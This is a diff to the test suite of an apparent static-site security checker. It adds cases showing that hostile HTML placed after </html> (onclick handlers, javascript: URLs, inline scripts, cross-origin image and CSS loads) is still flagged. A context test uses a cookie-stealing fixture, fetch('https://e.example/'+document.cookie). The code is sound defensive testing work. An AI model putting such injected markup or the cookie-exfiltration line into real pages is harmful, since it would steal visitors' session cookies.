@@ -63,6 +63,21 @@ def test_each_hostile_class_is_caught(tmp_path: Path, name: str) -> None:
     assert any(f.startswith("x/index.html: ") and expected in f for f in failures), failures
 
 
+@pytest.mark.parametrize("trailer, expected", [
+    ("<p onclick='a()'>y</p>", "event-handler attribute 'onclick' on <p>"),
+    ("<img src='https://e.example/x.png'>", "<img src> loads from another origin"),
+    ("<a href='javascript:alert(1)'>x</a>", "javascript: URL in <a>"),
+    ("<script>alert(1)</script>", "an inline script that is not the theme's"),
+    ("<style>p{background:url(https://e.example/x.png)}</style>", "CSS loads from another origin"),
+])
+def test_what_follows_the_end_of_the_page_is_scanned_too(tmp_path: Path, trailer: str, expected: str) -> None:
+    """libxml2 puts what follows </html> in a second top-level element; a browser shows and runs it."""
+    root = site_with(tmp_path, "<p>x</p>")
+    (root / "x/index.html").write_text((root / "x/index.html").read_text() + trailer)
+    failures = check_links(root)
+    assert any(f.startswith("x/index.html: ") and expected in f for f in failures), failures
+
+
 def test_an_inline_script_that_is_not_the_themes_is_caught(tmp_path: Path) -> None:
     failures = check_links(site_with(tmp_path, "<p>x</p>", script="fetch('https://e.example/'+document.cookie)"))
     assert failures == ["x/index.html: an inline script that is not the theme's: \"fetch('https://e.example/'+document.cookie)\""]
